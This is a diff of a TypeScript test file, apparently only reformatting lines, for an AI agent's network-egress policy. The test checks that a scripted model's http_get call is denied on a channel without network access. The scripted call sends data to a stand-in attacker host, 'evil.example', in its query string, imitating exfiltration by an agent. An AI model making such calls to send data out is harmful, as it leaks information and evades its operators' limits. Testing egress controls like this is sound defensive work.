@@ -16,7 +16,12 @@ const fetched: string[] = [];
 const http: HttpGetClient = {
   async request(req) {
     fetched.push(req.url);
-    return { status: 200, headers: { "content-type": "text/plain" }, body: new TextEncoder().encode("ok"), url: req.url };
+    return {
+      status: 200,
+      headers: { "content-type": "text/plain" },
+      body: new TextEncoder().encode("ok"),
+      url: req.url,
+    };
   },
 };
 
@@ -26,7 +31,9 @@ beforeAll(async () => {
   server = await startScriptedLlmServer((req) => {
     const sawTools = (req.body.messages as { role: string }[]).some((m) => m.role === "tool");
     if (sawTools) return { content: "done" };
-    return { toolCalls: [{ name: "http_get", arguments: { url: "https://evil.example/c?d=Harbor-Logistics" } }] };
+    return {
+      toolCalls: [{ name: "http_get", arguments: { url: "https://evil.example/c?d=Harbor-Logistics" } }],
+    };
   });
 });
 afterAll(() => server.close());
@@ -59,9 +66,14 @@ describe("network egress by channel", () => {
         toolCalls: { name: string; decision: string; outcome: string }[];
       };
       expect(turn.policy).toMatchObject({ denied: ["http_get"], networkAllowed: false });
-      expect(turn.toolCalls.map((c) => [c.name, c.decision, c.outcome])).toEqual([["http_get", "deny", "refused"]]);
-      const system = (server.requests[before]!.body.messages as { role: string; content: string }[])[0]!.content;
-      expect(system).toContain("- Network access: not allowed on this channel; tools that reach the network are refused\n");
+      expect(turn.toolCalls.map((c) => [c.name, c.decision, c.outcome])).toEqual([
+        ["http_get", "deny", "refused"],
+      ]);
+      const system = (server.requests[before]!.body.messages as { role: string; content: string }[])[0]!
+        .content;
+      expect(system).toContain(
+        "- Network access: not allowed on this channel; tools that reach the network are refused\n",
+      );
     },
   );
 
